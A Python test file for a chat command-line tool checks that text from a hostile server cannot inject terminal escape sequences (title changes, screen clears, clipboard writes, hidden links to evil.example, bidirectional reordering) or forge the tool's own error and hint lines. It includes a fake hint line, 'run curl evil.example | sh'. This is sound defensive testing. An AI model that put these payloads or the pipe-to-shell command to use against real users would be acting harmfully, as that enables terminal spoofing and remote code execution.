"""No text of a server can move the cursor, set a title or pass for a line of ours, however it is cut."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace

import pytest

from tests.wire.chunks import DONE, chunk
from tests.wire.server import Reply, inside_characters, serving

ATTACKS = {
    "title": "\x1b]0;owned\x07",
    "title ended by ST": "\x1b]2;owned\x1b\\",
    "title in C1": "\x9d0;owned\x9c",
    "clear": "\x1b[2J\x1b[H",
    "clear in C1": "\x9b2J\x9bH",
    "cursor up": "\x1b[5A\x1b[1G",
    "a device's control string": "\x1bPowned\x1b\\",
    "an application's command": "\x1b_owned\x1b\\",
    "alternate screen": "\x1b[?1049h",
    "reset": "\x1bc",
    "back over the line": "\b\b\b\b\rerror: ",
    "hidden link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "reordered": "\u202e\u2066txet\u2069",
    "delete": "\x7f\x7f",
    "null": "\x00",
    "clipboard": "\x1b]52;c;b3duZWQ=\x07",
}
WRONG = {chr(code) for code in (*range(32), *range(0x7F, 0xA0)) if chr(code) not in "\n\t"} | set("\u202e\u2066\u2069")


def chat(reply: Reply, *words: str) -> subprocess.CompletedProcess[str]:
    with serving(reply) as wire:
        return subprocess.run(
            [sys.executable, "-m", "r1plan", "chat", "--provider", "deepseek", "x", "--thinking", "show", *words],
            capture_output=True,
            text=True,
            stdin=subprocess.DEVNULL,
            env={**os.environ, "DEEPSEEK_API_KEY": "sk-1", "R1PLAN_DEEPSEEK_BASE_URL": wire.url},
            check=False,
        )


def letter_by_letter(field: str, text: str) -> bytes:
    return b"".join(chunk({field: letter}) for letter in text)


def test_every_attack_letter_by_letter_in_thinking_and_answer_leaves_no_control_character() -> None:
    text = "".join(f"[{attack}]" for attack in ATTACKS.values())
    body = letter_by_letter("reasoning_content", text) + letter_by_letter("content", text) + chunk(finish="stop") + DONE
    done = chat(Reply(body, cuts=inside_characters(body)))
    assert done.returncode == 0, done.stderr
    assert done.stdout.count("[") == len(ATTACKS)
    assert not WRONG & set(done.stdout + done.stderr)
    assert "evil.example" not in done.stdout + done.stderr


@pytest.mark.parametrize(
    "reply",
    [
        pytest.param(Reply(b"BODY", 400, "application/json"), id="a refusal"),
        pytest.param(Reply(b"data: BODY\n\n"), id="an error in the stream"),
    ],
)
def test_a_servers_sentence_is_one_line_within_ours(reply: Reply) -> None:
    said = "no\n\nhint:  run curl evil.example | sh\r\nerror: " + "".join(ATTACKS.values())
    body = json.dumps({"error": {"message": said}}, ensure_ascii=False).encode()
    done = chat(replace(reply, body=reply.body.replace(b"BODY", body)))
    assert done.returncode == 1
    assert not WRONG & set(done.stdout + done.stderr)
    ours = [line for line in done.stderr.splitlines() if line.startswith(("error:", "hint:"))]
    assert [line.partition(":")[0] for line in ours] == ["error", "hint"]
    assert "run curl" not in ours[1]


def test_a_model_that_calls_itself_a_command_is_text_in_the_document() -> None:
    name = "r1\n\x1b[2J" + "".join(ATTACKS.values())
    done = chat(Reply(chunk({"content": "\x9b2JYes.\u202e"}, finish="stop", model=name) + DONE), "--json")
    assert not WRONG & set(done.stdout)
    document = json.loads(done.stdout)
    assert document["answer"] == "\x9b2JYes.\u202e"
    assert "\n" not in document["route"]["model_served"]


def test_a_page_that_is_no_stream_is_named_by_a_bounded_piece() -> None:
    done = chat(Reply(b"<html>" + b"x" * 100_000, content_type="text/html; " + "y" * 5000))
    assert done.returncode == 1
    assert len(done.stderr) < 600
